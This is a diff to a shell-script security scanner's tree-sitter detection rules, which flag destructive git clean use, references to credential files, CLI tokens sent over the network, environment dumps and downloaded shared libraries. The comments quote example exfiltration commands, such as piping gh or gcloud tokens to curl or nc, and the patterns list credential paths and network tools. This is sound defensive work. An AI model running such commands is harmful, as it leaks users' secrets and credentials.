@@ -86,13 +86,11 @@
 ; made the working directory (then a work tree), and git clean -x or -d
 ; removing every file git does not track, which is all of them; git -C ~
 ; clean -fdx, git --work-tree=/ clean -fdx likewise
-((_ [(command argument: (_)) @cd (list . (command argument: (_)) @cd)]
-    [(command argument: (_) argument: (_)) @n (list (command argument: (_) argument: (_)) @n)]) @finding
+((_ [(command argument: (_) argument: (_)) @n @stmt (list (command argument: (_) argument: (_)) @n) @stmt]) @finding
  (#match? @n "\\sclean\\s(.*\\s)?-[a-zA-Z]*[xXd]")
- (#match? @cd "^(cd|pushd)\\s+(--\\s+)?(~/?|\"?\\$\\{?HOME\\}?\"?/?|/+)\\s*$")
- (#resolves-to? @cd "cd|pushd")
  (#resolves-to? @n "git")
  (#match? @n "\\sclean\\s(.*\\s)?(-[a-zA-Z]*f|--force)")
+ (#after-match? @stmt "^(cd|pushd)\\s+(--\\s+)?(~/?|\"?\\$\\{?HOME\\}?\"?/?|/+)\\s*$")
  (#set! id "sh-destructive")
  (#set! severity "high")
  (#set! message "goes to the home or root directory and removes every file git does not track there (git clean)"))
@@ -313,7 +311,7 @@
 ; a pattern that names them ([[ $f == */.@(ssh)/id_!(*.pub) ]], case items) as well,
 ; and a regular expression (find -regex '.*/\.(s)sh/id_.*', [[ $f =~ \.s{2}h/ ]])
 ([(word) (raw_string) (string) (ansi_c_string) (concatenation) (extglob_pattern) (regex)] @finding
- (#value-match? @finding "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+known_hosts2?(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|/etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/(self|[0-9]+|\\$\\$)/environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets")
+ (#value-match? @finding "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+known_hosts2?(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|/etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/[^/\\s]+/(task/[^/\\s]+/)?environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets")
  (#not-parent-type? @finding "concatenation")
  (#set! id "sh-credentials")
  (#set! severity "high")
@@ -322,8 +320,8 @@
 ; "$dir/..." whose whole does not fold: the constant piece
 ([(concatenation [(word) (raw_string) (string) (ansi_c_string)] @finding)
   (string (string_content) @finding)] @whole
- (#value-match? @finding "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+known_hosts2?(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|/etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/(self|[0-9]+|\\$\\$)/environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets")
- (#not-value-match? @whole "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+known_hosts2?(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|/etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/(self|[0-9]+|\\$\\$)/environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets")
+ (#value-match? @finding "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+known_hosts2?(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|/etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/[^/\\s]+/(task/[^/\\s]+/)?environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets")
+ (#not-value-match? @whole "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+known_hosts2?(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|/etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/[^/\\s]+/(task/[^/\\s]+/)?environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets")
  (#set! id "sh-credentials")
  (#set! severity "high")
  (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))
@@ -336,6 +334,27 @@
  (#set! id "sh-credentials")
  (#set! severity "high")
  (#set! message "asks git's credential helper for a stored password or token (git credential fill)"))
+
+; gh auth token | curl --data-binary @- u, { gcloud auth print-access-token;
+; aws configure export-credentials; } | nc h p, curl -d "$(gh auth token)" u:
+; a token that a command-line tool keeps, printed by the tool and sent out
+; as data (in an Authorization header, curl -H "...$(gcloud auth
+; print-access-token)", or to docker login --password-stdin, it is used as
+; a token is, and is not reported)
+((pipeline) @finding
+ (#match? @finding "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token)(?![\\w.:-])")
+ (#contains-call? @finding "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "sends a token that a tool prints (gh auth token, gcloud auth print-access-token, aws configure export-credentials) over the network"))
+
+((command argument: (word) @flag . argument: (_) @data) @n @finding
+ (#match? @flag "^(-d|--data(-[a-z]+)?|-F|--form|-T|--upload-file|--post-data|--body-data)$")
+ (#match? @data "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token)(?![\\w.:-])")
+ (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "sends a token that a tool prints (gh auth token, gcloud auth print-access-token, aws configure export-credentials) over the network"))
 
 ; A project's .env: a script that sources it (set -a; . ./.env) or names
 ; it in a message configures itself; one that gives it to a network client
@@ -380,6 +399,17 @@
  (#set! id "sh-env-dump")
  (#set! severity "warn")
  (#set! message "prints the whole environment, where secrets usually are"))
+
+; ps eww -p $$, ps axe: BSD ps's e option prints a process's environment
+; after its command line (ps -e, every process, is not; nor a word after
+; an option that takes one: ps -C sleep)
+((command) @n @finding
+ (#resolves-to? @n "ps")
+ (#match? @n "^(\\S*/)?ps\\s+(.*\\s)?[auxwfjlsvrTchHnSmgLX]*e[auxwfjlsvrTchHnSmgLX]*(\\s|$)")
+ (#not-match? @n "\\s-[a-zA-Z]*[CGgpqstuUoOkN]\\s+[auxwfjlsvrTchHnSmgLX]*e[auxwfjlsvrTchHnSmgLX]*(\\s|$)")
+ (#set! id "sh-env-dump")
+ (#set! severity "warn")
+ (#set! message "prints processes' environments (ps e), where secrets usually are"))
 
 ; compgen -e, compgen -v, compgen -A export: every variable's name (with
 ; ${!v}, its value)
@@ -480,6 +510,24 @@
  (#set! id "sh-native-code")
  (#set! severity "high")
  (#set! message "loads a shared object as native code into bash (enable -f) or ssh-keygen (-D)"))
+
+; curl -o "$d/libz.so.1" u, wget -P "$d" http://h/libssl.so.3, curl u >
+; x.so: a shared library downloaded, whose only use is to be loaded into a
+; program (LD_LIBRARY_PATH=$d curl --version, LD_PRELOAD, dlopen) or
+; the kernel (.ko)
+((command) @n @finding
+ (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-download|GET|lynx|w3m|e?links")
+ (#match? @n "((?<!/)/|[\\s=\"'])[^/\\s\"'=]+\\.(so(\\.[0-9]+)*|ko)[\"']?(\\s|$)")
+ (#set! id "sh-native-code")
+ (#set! severity "high")
+ (#set! message "downloads a shared library or a kernel module, native code to be loaded"))
+
+((redirected_statement body: (command) @n redirect: (file_redirect destination: (_) @so)) @finding
+ (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|lynx|w3m|e?links")
+ (#match? @so "\\.(so(\\.[0-9]+)*|ko)[\"']?$")
+ (#set! id "sh-native-code")
+ (#set! severity "high")
+ (#set! message "downloads a shared library or a kernel module, native code to be loaded"))
 
 ; /lib64/ld-linux-x86-64.so.2 ./prog, insmod x.ko: native code run by the loader or the kernel
 ((command) @n @finding
